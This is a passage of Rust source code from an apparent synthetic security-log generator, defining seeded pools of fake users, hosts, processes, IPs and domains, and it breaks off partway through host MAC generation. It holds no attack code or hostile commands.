//! Shared entity pools: users, hosts, processes, external IPs and DNS domains, generated once per
//! run from the seed and shared by every source pack, so the same person signs in to Okta and
//! M365 and logs on to Windows, and the same laptop shows up in Windows, Falcon and firewall
//! events. This file owns the pool types, the built-in name/binary/geo tables and the value rules.
//!
//! Determinism: every kind has its own stream key derived from (seed, kind), and entity `i` of a
//! kind is drawn from an RNG seeded from (stream key, `i`). Changing one pool's size never
//! changes another pool, and growing a pool keeps the entities it already had. The few values
//! that must be unique (user names, host names and addresses, domain names, IPs) are made unique
//! in index order, so an earlier entity always keeps its value. Low indices are the busy ones
//! (the compiler skews draws toward them), so the first process entities are always benign.
//!
//! Address space: user egress IPs use only RFC 5737 documentation space, offices in
//! 198.51.100.0/24 and home connections in 192.0.2.0/24. The external IP pool puts about a fifth
//! of its addresses in 203.0.113.0/24 (documentation space, the "attacker" range used by the
//! reference examples) and the rest in plausible public prefixes of the organisation its geo/ASN
//! row names (never private, loopback, link-local, CGNAT, multicast or reserved space). Host
//! addresses are RFC 1918: workstations 10.20.x.y, servers 10.10.x.y. Domains are under
//! example.com/.net/.org or reserved `.example`/`.test` names.
//!
//! Values never contain `"`, control characters or newlines; `\` appears only in Windows paths
//! and command lines (process `path`, `device_path`, `cmdline`, `parent_path`).

use std::collections::{HashMap, HashSet};
use std::fmt::Write as _;

use rand_core::{Rng, SeedableRng};
use rand_xoshiro::Xoshiro256PlusPlus;

// ---------------------------------------------------------------------------------------------
// Kinds and sizes
// ---------------------------------------------------------------------------------------------

/// A kind of shared entity.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum EntityKind {
    User,
    Host,
    Process,
    Ip,
    Domain,
}

const USER_ATTRS: &[&str] = &[
    "name",
    "upn",
    "display",
    "first",
    "last",
    "domain",
    "dns_domain",
    "sid",
    "uid",
    "guid",
    "puid",
    "okta_id",
    "ua",
    "egress_ip",
];
const HOST_ATTRS: &[&str] = &["name", "lname", "fqdn", "ip", "mac", "aid", "os", "guid"];
const PROCESS_ATTRS: &[&str] = &[
    "name",
    "path",
    "device_path",
    "cmdline",
    "parent_name",
    "parent_path",
    "sha256",
    "md5",
];
const IP_ATTRS: &[&str] = &[
    "addr",
    "country",
    "country_code",
    "city",
    "lat",
    "lon",
    "asn",
    "org",
];
const DOMAIN_ATTRS: &[&str] = &["name", "tld"];

impl EntityKind {
    pub const ALL: [EntityKind; 5] = [
        EntityKind::User,
        EntityKind::Host,
        EntityKind::Process,
        EntityKind::Ip,
        EntityKind::Domain,
    ];

    /// The kind's name in packs and configs: `user`, `host`, `process`, `ip`, `domain`.
    pub fn name(self) -> &'static str {
        match self {
            EntityKind::User => "user",
            EntityKind::Host => "host",
            EntityKind::Process => "process",
            EntityKind::Ip => "ip",
            EntityKind::Domain => "domain",
        }
    }

    /// The kind named `s` (exactly as [`EntityKind::name`] spells it).
    pub fn parse(s: &str) -> Option<EntityKind> {
        EntityKind::ALL.into_iter().find(|k| k.name() == s)
    }

    /// Attribute names, in column order; the first is what `{{slot}}` alone renders.
    pub fn attributes(self) -> &'static [&'static str] {
        match self {
            EntityKind::User => USER_ATTRS,
            EntityKind::Host => HOST_ATTRS,
            EntityKind::Process => PROCESS_ATTRS,
            EntityKind::Ip => IP_ATTRS,
            EntityKind::Domain => DOMAIN_ATTRS,
        }
    }

    /// Pool size used when the run config does not set one.
    pub fn default_size(self) -> usize {
        match self {
            EntityKind::User => 100,
            EntityKind::Host => 200,
            EntityKind::Process => 80,
            EntityKind::Ip => 500,
            EntityKind::Domain => 200,
        }
    }

    fn index(self) -> usize {
        match self {
            EntityKind::User => 0,
            EntityKind::Host => 1,
            EntityKind::Process => 2,
            EntityKind::Ip => 3,
            EntityKind::Domain => 4,
        }
    }
}

impl std::fmt::Display for EntityKind {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.name())
    }
}

/// Pool sizes per kind.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Sizes {
    pub user: usize,
    pub host: usize,
    pub process: usize,
    pub ip: usize,
    pub domain: usize,
}

impl Default for Sizes {
    fn default() -> Self {
        Sizes {
            user: EntityKind::User.default_size(),
            host: EntityKind::Host.default_size(),
            process: EntityKind::Process.default_size(),
            ip: EntityKind::Ip.default_size(),
            domain: EntityKind::Domain.default_size(),
        }
    }
}

impl Sizes {
    pub fn get(&self, k: EntityKind) -> usize {
        match k {
            EntityKind::User => self.user,
            EntityKind::Host => self.host,
            EntityKind::Process => self.process,
            EntityKind::Ip => self.ip,
            EntityKind::Domain => self.domain,
        }
    }

    pub fn set(&mut self, k: EntityKind, n: usize) {
        match k {
            EntityKind::User => self.user = n,
            EntityKind::Host => self.host = n,
            EntityKind::Process => self.process = n,
            EntityKind::Ip => self.ip = n,
            EntityKind::Domain => self.domain = n,
        }
    }
}

// ---------------------------------------------------------------------------------------------
// Pools
// ---------------------------------------------------------------------------------------------

/// One attribute of every entity in a pool: the values back to back, with end offsets.
#[derive(Clone, Debug, PartialEq, Eq, Default)]
struct Column {
    data: String,
    ends: Vec<usize>,
}

impl Column {
    fn with_capacity(n: usize, avg: usize) -> Column {
        Column {
            data: String::with_capacity(n.saturating_mul(avg)),
            ends: Vec::with_capacity(n),
        }
    }

    /// Appends one whole value.
    fn push(&mut self, v: &str) {
        self.data.push_str(v);
        self.end();
    }

    /// Ends the value written so far into `data`.
    fn end(&mut self) {
        self.ends.push(self.data.len());
    }

    fn get(&self, i: usize) -> &str {
        let end = self.ends[i];
        let start = if i == 0 { 0 } else { self.ends[i - 1] };
        &self.data[start..end]
    }
}

/// One pool: `len()` entities, each with every attribute of its kind as text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Pool {
    kind: EntityKind,
    len: usize,
    cols: Vec<Column>,
}

impl Pool {
    fn new(kind: EntityKind, n: usize, avg: &[usize]) -> Pool {
        debug_assert_eq!(avg.len(), kind.attributes().len());
        Pool {
            kind,
            len: n,
            cols: avg.iter().map(|&a| Column::with_capacity(n, a)).collect(),
        }
    }

    pub fn kind(&self) -> EntityKind {
        self.kind
    }

    pub fn len(&self) -> usize {
        self.len
    }

    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// Index of attribute `name` in `kind().attributes()`.
    pub fn attr_index(&self, name: &str) -> Option<usize> {
        self.kind.attributes().iter().position(|a| *a == name)
    }

    /// Attribute `attr` of entity `entity`. Panics if either index is out of range.
    pub fn get(&self, entity: usize, attr: usize) -> &str {
        assert!(
            entity < self.len,
            "{} entity {entity} out of range (pool has {})",
            self.kind.name(),
            self.len
        );
        self.cols[attr].get(entity)
    }

    /// Attribute `name` of entity `entity`, if the kind has that attribute.
    pub fn get_by_name(&self, entity: usize, name: &str) -> Option<&str> {
        self.attr_index(name).map(|a| self.get(entity, a))
    }

    fn check_complete(&self) {
        debug_assert!(self.cols.iter().all(|c| c.ends.len() == self.len));
    }
}

/// The five shared pools of one run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Entities {
    pools: [Pool; 5],
}

impl Entities {
    /// Builds every pool from `seed`; the same `(seed, sizes)` always gives the same pools.
    pub fn generate(seed: u64, sizes: &Sizes) -> Entities {
        Entities {
            pools: [
                gen_users(seed, sizes.user),
                gen_hosts(seed, sizes.host),
                gen_processes(seed, sizes.process),
                gen_ips(seed, sizes.ip),
                gen_domains(seed, sizes.domain),
            ],
        }
    }

    pub fn pool(&self, kind: EntityKind) -> &Pool {
        &self.pools[kind.index()]
    }
}

// ---------------------------------------------------------------------------------------------
// Randomness
// ---------------------------------------------------------------------------------------------

fn splitmix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9E37_79B9_7F4A_7C15);
    z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    z ^ (z >> 31)
}

/// The stream key of one kind under one seed.
fn kind_key(seed: u64, kind: EntityKind) -> u64 {
    const SALT: [u64; 5] = [
        0x7573_6572_0000_0001, // user
        0x686f_7374_0000_0002, // host
        0x7072_6f63_0000_0003, // process
        0x6970_7634_0000_0004, // ip
        0x646f_6d61_0000_0005, // domain
    ];
    splitmix64(seed ^ splitmix64(SALT[kind.index()]))
}

struct Gen(Xoshiro256PlusPlus);

impl Gen {
    /// The RNG of entity `i` of the stream `key`.
    fn entity(key: u64, i: usize) -> Gen {
        Gen(Xoshiro256PlusPlus::seed_from_u64(splitmix64(
            key ^ splitmix64(i as u64),
        )))
    }

    /// The RNG for per-pool (not per-entity) choices of the stream `key`.
    fn pool(key: u64) -> Gen {
        Gen(Xoshiro256PlusPlus::seed_from_u64(
            splitmix64(key).rotate_left(29) ^ 0xA076_1D64_78BD_642F,
        ))
    }

    fn next(&mut self) -> u64 {
        self.0.next_u64()
    }

    /// Uniform in `0..n` (`n > 0`).
    fn below(&mut self, n: u64) -> u64 {
        ((u128::from(self.next()) * u128::from(n)) >> 64) as u64
    }

    /// Uniform in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + self.below(hi - lo + 1)
    }

    fn index(&mut self, n: usize) -> usize {
        self.below(n as u64) as usize
    }

    fn pick<'a, T>(&mut self, s: &'a [T]) -> &'a T {
        &s[self.index(s.len())]
    }

    fn pick_str(&mut self, s: &[&'static str]) -> &'static str {
        s[self.index(s.len())]
    }

    fn percent(&mut self, p: u64) -> bool {
        self.below(100) < p
    }

    /// Index into `items` drawn by the weights `w` (at least one weight must be non-zero).
    fn weighted<T>(&mut self, items: &[T], w: impl Fn(&T) -> u32) -> usize {
        let total: u64 = items.iter().map(|t| u64::from(w(t))).sum();
        let mut r = self.below(total);
        for (i, t) in items.iter().enumerate() {
            let wi = u64::from(w(t));
            if r < wi {
                return i;
            }
            r -= wi;
        }
        items.len() - 1
    }
}

/// Stable 64-bit hash of text (FNV-1a), independent of the seed.
fn fnv1a(s: &str) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for b in s.bytes() {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

/// A bijection on 48-bit integers keyed by `k`: distinct inputs give distinct outputs.
fn perm48(x: u64, k: u64) -> u64 {
    const M: u64 = (1 << 48) - 1;
    let mut x = (x ^ k) & M;
    x = x.wrapping_mul(0x9E37_79B9_7F4B) & M;
    x ^= x >> 24;
    x = x.wrapping_mul(0xD6E8_FEB8_6659) & M;
    x ^= x >> 21;
    x = x.wrapping_mul(0x2545_F491_4F6D) & M;
    x ^= x >> 19;
    (x + (k >> 16)) & M
}

const HEX_LOWER: &[u8; 16] = b"0123456789abcdef";
const HEX_UPPER: &[u8; 16] = b"0123456789ABCDEF";

/// Appends the low `digits` hex digits of `v`.
fn push_hex(s: &mut String, v: u64, digits: u32, upper: bool) {
    let table = if upper { HEX_UPPER } else { HEX_LOWER };
    for d in (0..digits).rev() {
        s.push(table[((v >> (d * 4)) & 0xf) as usize] as char);
    }
}

/// Appends a random version-4 UUID in lower case.
fn push_uuid(s: &mut String, g: &mut Gen) {
    let a = (g.next() & !0xF000) | 0x4000;
    let b = (g.next() & 0x3FFF_FFFF_FFFF_FFFF) | 0x8000_0000_0000_0000;
    push_hex(s, a >> 32, 8, false);
    s.push('-');
    push_hex(s, a >> 16, 4, false);
    s.push('-');
    push_hex(s, a, 4, false);
    s.push('-');
    push_hex(s, b >> 48, 4, false);
    s.push('-');
    push_hex(s, b, 12, false);
}

fn push_ipv4(s: &mut String, ip: u32) {
    let [a, b, c, d] = ip.to_be_bytes();
    let _ = write!(s, "{a}.{b}.{c}.{d}");
}

const fn ip4(a: u8, b: u8, c: u8, d: u8) -> u32 {
    u32::from_be_bytes([a, b, c, d])
}

// ---------------------------------------------------------------------------------------------
// Users
// ---------------------------------------------------------------------------------------------

#[rustfmt::skip]
const FIRST_NAMES: &[&str] = &[
    "Priya", "Aarav", "Aisha", "Ahmed", "Akira", "Alejandro", "Alexander", "Alice", "Amara", "Amir",
    "Ana", "Andrea", "Andrew", "Anil", "Anjali", "Anna", "Anthony", "Antoine", "Aoife", "Arjun",
    "Astrid", "Aylin", "Ayesha", "Beatriz", "Benjamin", "Bilal", "Bogdan", "Brian", "Camila",
    "Camille", "Carlos", "Caroline", "Catherine", "Chiamaka", "Chiara", "Chloe", "Christopher",
    "Ciaran", "Claire", "Daniel", "Daniela", "David", "Declan", "Deepa", "Diego", "Dmitri", "Elena",
    "Elif", "Elizabeth", "Emeka", "Emily", "Emma", "Emre", "Erik", "Ethan", "Ewa", "Farah",
    "Fatima", "Felipe", "Fernando", "Fiona", "Francesca", "Freya", "Gabriel", "Giulia", "Grace",
    "Gustavo", "Hamza", "Hannah", "Haruto", "Hassan", "Hiroshi", "Hugo", "Hyun", "Ibrahim", "Ines",
    "Ingrid", "Isabel", "Ivan", "Jacob", "James", "Jasmine", "Javier", "Jennifer", "Jessica",
    "Jiwoo", "Joao", "John", "Jonas", "Jonathan", "Jose", "Joseph", "Julia", "Juliana", "Kaito",
    "Karen", "Karim", "Katarzyna", "Katharina", "Kavya", "Kenji", "Kevin", "Kofi", "Kwame", "Lars",
    "Laura", "Layla", "Leila", "Lena", "Lerato", "Liam", "Linh", "Lorenzo", "Louise", "Lucas",
    "Lucia", "Luis", "Lukas", "Magnus", "Mai", "Malik", "Manuel", "Maria", "Mariam", "Mark",
    "Marta", "Mateo", "Mateus", "Matteo", "Matthew", "Mehmet", "Mei", "Mia", "Michael", "Minjun",
    "Mohammed", "Mustafa", "Nadia", "Naomi", "Nathan", "Neha", "Ngozi", "Niamh", "Nikhil", "Nina",
    "Noah", "Olga", "Oliver", "Olivia", "Olumide", "Omar", "Oscar", "Pablo", "Parisa", "Patrick",
    "Paul", "Pedro", "Piotr", "Pooja", "Quang", "Rachel", "Rafael", "Rahul", "Rajesh", "Ravi",
    "Rebecca", "Reza", "Ricardo", "Robert", "Rohan", "Rosa", "Ryan", "Sakura", "Samuel", "Sara",
    "Sarah", "Sean", "Sebastian", "Seojun", "Sergei", "Shreya", "Siddharth", "Sofia", "Sophie",
    "Stefan", "Steven", "Sunil", "Sven", "Takumi", "Tamar", "Tariq", "Thabo", "Thanh", "Thomas",
    "Tomasz", "Tuan", "Valentina", "Victor", "Vikram", "Wei", "William", "Xin", "Yara", "Yasmin",
    "Yuki", "Yusuf", "Zainab", "Zeynep", "Zoe",
];

#[rustfmt::skip]
const LAST_NAMES: &[&str] = &[
    "Natarajan", "Smith", "Johnson", "Williams", "Brown", "Jones", "Garcia", "Miller", "Davis",
    "Rodriguez", "Martinez", "Hernandez", "Lopez", "Gonzalez", "Wilson", "Anderson", "Thomas",
    "Taylor", "Moore", "Jackson", "Martin", "Lee", "Perez", "Thompson", "White", "Harris",
    "Sanchez", "Clark", "Ramirez", "Lewis", "Robinson", "Walker", "Young", "Allen", "King",
    "Wright", "Scott", "Torres", "Nguyen", "Hill", "Flores", "Green", "Adams", "Nelson", "Baker",
    "Hall", "Rivera", "Campbell", "Mitchell", "Carter", "Roberts", "Patel", "Shah", "Sharma",
    "Gupta", "Iyer", "Reddy", "Kumar", "Singh", "Mehta", "Rao", "Krishnan", "Menon", "Chatterjee",
    "Banerjee", "Desai", "Joshi", "Kapoor", "Chen", "Wang", "Zhang", "Liu", "Yang", "Huang", "Zhao",
    "Wu", "Zhou", "Xu", "Sun", "Lin", "Tanaka", "Suzuki", "Takahashi", "Watanabe", "Ito",
    "Yamamoto", "Nakamura", "Kobayashi", "Sato", "Kim", "Park", "Choi", "Jung", "Kang", "Cho",
    "Tran", "Pham", "Hoang", "Vu", "Khan", "Ahmed", "Ali", "Hussain", "Rahman", "Hassan", "Ibrahim",
    "Mahmoud", "Haddad", "Nasser", "Okafor", "Okonkwo", "Adeyemi", "Mensah", "Osei", "Nkosi",
    "Dlamini", "Mwangi", "Kariuki", "Abebe", "Muller", "Schmidt", "Schneider", "Fischer", "Weber",
    "Meyer", "Wagner", "Becker", "Hoffmann", "Schulz", "Dubois", "Moreau", "Laurent", "Lefebvre",
    "Bernard", "Rossi", "Russo", "Ferrari", "Esposito", "Bianchi", "Romano", "Costa", "Silva",
    "Santos", "Oliveira", "Souza", "Pereira", "Almeida", "Ferreira", "Carvalho", "Kowalski",
    "Nowak", "Wisniewski", "Wojcik", "Ivanov", "Petrov", "Smirnov", "Popov", "Volkov", "Novak",
    "Horvat", "Kovacs", "Nagy", "Andersson", "Johansson", "Karlsson", "Nilsson", "Larsen", "Hansen",
    "Jensen", "Nielsen", "Olsen", "Berg", "Virtanen", "Korhonen", "Murphy", "Kelly", "Byrne",
    "Walsh", "Yilmaz", "Kaya", "Demir", "Celik", "Sahin", "Cohen", "Levi", "Friedman", "Mizrahi",
    "Hosseini", "Rezaei", "Karimi", "Mohammadi", "Fernandez", "Gomez", "Diaz", "Morales", "Ortiz",
    "Castillo", "Vargas", "Romero", "Alvarez", "Mendoza", "Ruiz", "Herrera", "Medina", "Aguilar",
    "Jimenez", "Moreno", "Gutierrez", "Chavez", "Ramos",
];

/// Browser user agents of early/mid 2025, with a corporate Windows-heavy mix.
#[rustfmt::skip]
const USER_AGENTS: &[(u32, &str)] = &[
    (14, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36"),
    (12, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/135.0.0.0 Safari/537.36"),
    (6, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36"),
    (14, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36 Edg/136.0.0.0"),
    (11, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/135.0.0.0 Safari/537.36 Edg/135.0.0.0"),
    (5, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36 Edg/134.0.0.0"),
    (4, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:138.0) Gecko/20100101 Firefox/138.0"),
    (3, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:137.0) Gecko/20100101 Firefox/137.0"),
    (1, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0"),
    (7, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36"),
    (5, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/135.0.0.0 Safari/537.36"),
    (6, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.4 Safari/605.1.15"),
    (4, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.3.1 Safari/605.1.15"),
    (2, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:138.0) Gecko/20100101 Firefox/138.0"),
    (2, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36 Edg/136.0.0.0"),
];

/// Share of users whose usual egress is an office address (the rest sign in from home).
const OFFICE_PERCENT: u64 = 85;
/// How the office users spread over the 2-4 office egress addresses.
const OFFICE_WEIGHTS: [u32; 4] = [55, 28, 11, 6];

fn gen_users(seed: u64, n: usize) -> Pool {
    let key = kind_key(seed, EntityKind::User);
    let mut pg = Gen::pool(key);

    // One domain SID per seed: S-1-5-21-a-b-c with three random 32-bit sub-authorities.
    let sid_prefix = format!(
        "S-1-5-21-{}-{}-{}-",
        pg.range(100_000_000, 4_294_967_295),
        pg.range(100_000_000, 4_294_967_295),
        pg.range(100_000_000, 4_294_967_295)
    );
    // 2-4 office egress addresses in 198.51.100.0/24.
    let office_count = pg.range(2, 4) as usize;
    let mut offices: Vec<u32> = Vec::with_capacity(office_count);
    while offices.len() < office_count {
        let ip = ip4(198, 51, 100, pg.range(2, 126) as u8);
        if !offices.contains(&ip) {
            offices.push(ip);
        }
    }
    let puid_key = pg.next();

    let mut pool = Pool::new(
        EntityKind::User,
        n,
        &[10, 22, 14, 6, 7, 4, 16, 46, 4, 36, 16, 20, 110, 13],
    );
    // Base login → how many users have taken it so far. Bases hold no digits, so `base` plus a
    // counter never equals another user's login.
    let mut taken: HashMap<String, u32> = HashMap::new();
    let mut base = String::new();
    let mut name = String::new();
    const OKTA_ALPHABET: &[u8] = b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ";

    for i in 0..n {
        let mut g = Gen::entity(key, i);
        let first = *g.pick(FIRST_NAMES);
        let last = *g.pick(LAST_NAMES);

        base.clear();
        base.extend(first.chars().take(1).map(|c| c.to_ascii_lowercase()));
        base.extend(last.chars().map(|c| c.to_ascii_lowercase()));
        let count = match taken.get_mut(base.as_str()) {
            Some(c) => {
                *c += 1;
                *c
            }
            None => {
                taken.insert(base.clone(), 1);
                1
            }
        };
        name.clear();
        name.push_str(&base);
        if count > 1 {
            let _ = write!(name, "{count}");
        }

        let c = &mut pool.cols;
        c[0].push(&name);
        let _ = write!(c[1].data, "{name}@example.com");
        c[1].end();
        let _ = write!(c[2].data, "{first} {last}");
        c[2].end();
        c[3].push(first);
        c[4].push(last);
        c[5].push("CORP");
        c[6].push("corp.example.com");
        // RIDs start at 1103 and climb with small gaps (deleted accounts, groups, computers).
        let rid = 1103 + 3 * i as u64 + g.below(3);
        let _ = write!(c[7].data, "{sid_prefix}{rid}");
        c[7].end();
        let _ = write!(c[8].data, "{}", 1000 + i as u64);
        c[8].end();
        push_uuid(&mut c[9].data, &mut g);
        c[9].end();
        c[10].data.push_str("1003");
        push_hex(&mut c[10].data, perm48(i as u64, puid_key), 12, true);
        c[10].end();
        c[11].data.push_str("00u");
        for _ in 0..17 {
            c[11].data.push(*g.pick(OKTA_ALPHABET) as char);
        }
        c[11].end();
        let ua = USER_AGENTS[g.weighted(USER_AGENTS, |u| u.0)].1;
        c[12].push(ua);
        let egress = if g.percent(OFFICE_PERCENT) {
            offices[g.weighted(&OFFICE_WEIGHTS[..office_count], |w| *w)]
        } else {
            ip4(192, 0, 2, g.range(1, 254) as u8)
        };
        push_ipv4(&mut c[13].data, egress);
        c[13].end();
    }
    pool.check_complete();
    pool
}

// ---------------------------------------------------------------------------------------------
// Hosts
// ---------------------------------------------------------------------------------------------

const WS_PERCENT_MILLE: u64 = 700;
const JUMP_PERCENT_MILLE: u64 = 20;

struct Role {
    prefix: &'static str,
    weight: u32,
    os: &'static [(u32, &'static str)],
}

const WIN11: &str = "Windows 11 Enterprise";
const WIN10: &str = "Windows 10 Enterprise";
const WS2022: &str = "Windows Server 2022";
const WS2019: &str = "Windows Server 2019";
const WS2016: &str = "Windows Server 2016";
const UBUNTU22: &str = "Ubuntu 22.04 LTS";
const UBUNTU24: &str = "Ubuntu 24.04 LTS";
const RHEL9: &str = "RHEL 9";
const RHEL8: &str = "RHEL 8";

const WORKSTATION_OS: &[(u32, &str)] = &[(65, WIN11), (35, WIN10)];

#[rustfmt::skip]
const SERVER_ROLES: &[Role] = &[
    Role { prefix: "DC", weight: 5, os: &[(60, WS2022), (40, WS2019)] },
    Role { prefix: "FS", weight: 6, os: &[(50, WS2022), (35, WS2019), (15, WS2016)] },
    Role { prefix: "SRV-APP", weight: 14, os: &[(60, WS2022), (40, WS2019)] },
    Role { prefix: "WEB", weight: 10, os: &[(35, WS2022), (40, UBUNTU22), (10, UBUNTU24), (15, RHEL9)] },
    Role { prefix: "DB", weight: 8, os: &[(45, WS2022), (35, RHEL9), (20, UBUNTU22)] },
    Role { prefix: "SQL", weight: 5, os: &[(55, WS2022), (45, WS2019)] },
    Role { prefix: "EXCH", weight: 2, os: &[(100, WS2019)] },
    Role { prefix: "PRN", weight: 2, os: &[(60, WS2019), (40, WS2016)] },
    Role { prefix: "RDS", weight: 3, os: &[(100, WS2022)] },
    Role { prefix: "APP", weight: 8, os: &[(50, UBUNTU22), (25, UBUNTU24), (25, RHEL9)] },
    Role { prefix: "K8S-NODE", weight: 6, os: &[(70, UBUNTU22), (30, UBUNTU24)] },
    Role { prefix: "SCCM", weight: 2, os: &[(100, WS2022)] },
    Role { prefix: "CA", weight: 1, os: &[(100, WS2022)] },
    Role { prefix: "LOG", weight: 2, os: &[(60, RHEL9), (40, RHEL8)] },
    Role { prefix: "CI", weight: 3, os: &[(100, UBUNTU22)] },
];

#[rustfmt::skip]
const JUMP_ROLES: &[Role] = &[
    Role { prefix: "JUMP", weight: 2, os: &[(100, WS2022)] },
    Role { prefix: "BASTION", weight: 1, os: &[(100, UBUNTU22)] },
];

/// Vendor OUIs seen on corporate laptops/desktops (HP, Dell, Lenovo/LCFC, Intel wireless).
#[rustfmt::skip]
const WORKSTATION_OUIS: &[(u32, [u8; 3])] = &[
    (6, [0x3c, 0x52, 0x82]),
    (4, [0x9c, 0x8e, 0x99]),
    (4, [0xec, 0xb1, 0xd7]),
    (5, [0xb8, 0xca, 0x3a]),
    (5, [0xf8, 0xbc, 0x12]),
    (4, [0xd4, 0x81, 0xd7]),
    (4, [0x18, 0xdb, 0xf2]),
    (5, [0x8c, 0x16, 0x45]),
    (4, [0xe8, 0x6a, 0x64]),
    (3, [0x54, 0xe1, 0xad]),
    (3, [0x98, 0xfa, 0x9b]),
    (4, [0xa4, 0x34, 0xd9]),
    (3, [0x7c, 0xb2, 0x7d]),
    (3, [0x3c, 0xa9, 0xf4]),
];

/// Server NICs: mostly VMware and Hyper-V virtual adapters, some Dell/HP physical.
#[rustfmt::skip]
const SERVER_OUIS: &[(u32, [u8; 3])] = &[
    (55, [0x00, 0x50, 0x56]),
    (15, [0x00, 0x15, 0x5d]),
    (6, [0x00, 0x0c, 0x29]),
    (8, [0x24, 0x6e, 0x96]),
    (6, [0xd0, 0x94, 0x66]),
    (5, [0xb0, 0x83, 0xfe]),
    (5, [0x3c, 0x52, 0x82]),
];

/// Usable addresses per /16 block (third octet 0..=255, last octet 10..=250), and how full a
/// block gets before the allocator moves on to the next one.
const BLOCK_CAPACITY: usize = 256 * 241;
const BLOCK_FILL: usize = BLOCK_CAPACITY * 6 / 10;

/// Unique internal addresses: workstations in 10.20.0.0/16 (then 10.21 …), servers in
/// 10.10.0.0/16 (then 10.11 …).
struct HostIps {
    used: HashSet<u32>,
    per_block: Vec<usize>,
    cursor: u32,
}

impl HostIps {
    fn new() -> HostIps {
        HostIps {
            used: HashSet::new(),
            per_block: vec![0; 256],
            cursor: ip4(10, 0, 0, 10),
        }
    }

    fn alloc(&mut self, g: &mut Gen, workstation: bool) -> u32 {
        let order: Box<dyn Iterator<Item = u8>> = if workstation {
            Box::new((20..=255).chain(0..20))
        } else {
            Box::new((10..20).chain(0..10).chain(20..=255))
        };
        for block in order {
            if self.per_block[block as usize] >= BLOCK_FILL {
                continue;
            }
            // At most 60% full: a handful of draws finds a free address.
            loop {
                let ip = ip4(10, block, g.below(256) as u8, g.range(10, 250) as u8);
                if self.used.insert(ip) {
                    self.per_block[block as usize] += 1;
                    return ip;
                }
            }
        }
        // Pools of many millions of hosts only: walk 10/8 for the next free address.
        for _ in 0..(1u32 << 24) {
            let ip = self.cursor;
            self.cursor = ip4(10, 0, 0, 0) | ((ip.wrapping_add(1)) & 0x00FF_FFFF);
            if (ip & 0xFF) >= 10 && (ip & 0xFF) <= 250 && self.used.insert(ip) {
                return ip;
            }
        }
        self.cursor
    }
}

fn gen_hosts(seed: u64, n: usize) -> Pool {
    let key = kind_key(seed, EntityKind::Host);
    let mut pool = Pool::new(EntityKind::Host, n, &[8, 8, 26, 11, 17, 32, 20, 36]);
    let mut ws_numbers: HashSet<u64> = HashSet::new();
    let (mut ws_lo, mut ws_hi, mut ws_in_level) = (1u64, 9_999u64, 0u64);
    let mut role_counts: HashMap<&'static str, u32> = HashMap::new();
    let mut ips = HostIps::new();
    let mut macs: HashSet<u64> = HashSet::new();
    let mut name = String::new();

    for i in 0..n {
        let mut g = Gen::entity(key, i);
        let class = g.below(1000);
        let workstation = class < WS_PERCENT_MILLE;
        name.clear();
        let os = if workstation {
            // WS-0417: four digits while they last (kept at most 60% full), then five, six …
            if ws_in_level >= (ws_hi - ws_lo + 1) * 6 / 10 {
                ws_lo = ws_hi + 1;
                ws_hi = ws_hi * 10 + 9;
                ws_in_level = 0;
            }
            let num = loop {
                let v = g.range(ws_lo, ws_hi);
                if ws_numbers.insert(v) {
                    break v;
                }
            };
            ws_in_level += 1;
            let _ = write!(name, "WS-{num:04}");
            WORKSTATION_OS[g.weighted(WORKSTATION_OS, |o| o.0)].1
        } else {
            let roles = if class >= 1000 - JUMP_PERCENT_MILLE {
                JUMP_ROLES
            } else {
                SERVER_ROLES
            };
            let role = &roles[g.weighted(roles, |r| r.weight)];
            let count = role_counts.entry(role.prefix).or_insert(0);
            *count += 1;
            let _ = write!(name, "{}-{:02}", role.prefix, count);
            role.os[g.weighted(role.os, |o| o.0)].1
        };
        let ip = ips.alloc(&mut g, workstation);
        let mac = loop {
            let ouis = if workstation {
                WORKSTATION_OUIS
            } else {
                SERVER_OUIS
            };
            let oui = ouis[g.weighted(ouis, |o| o.0)].1;
            let mut nic = g.next() & 0xFF_FFFF;
            if oui == [0x00, 0x50, 0x56] {
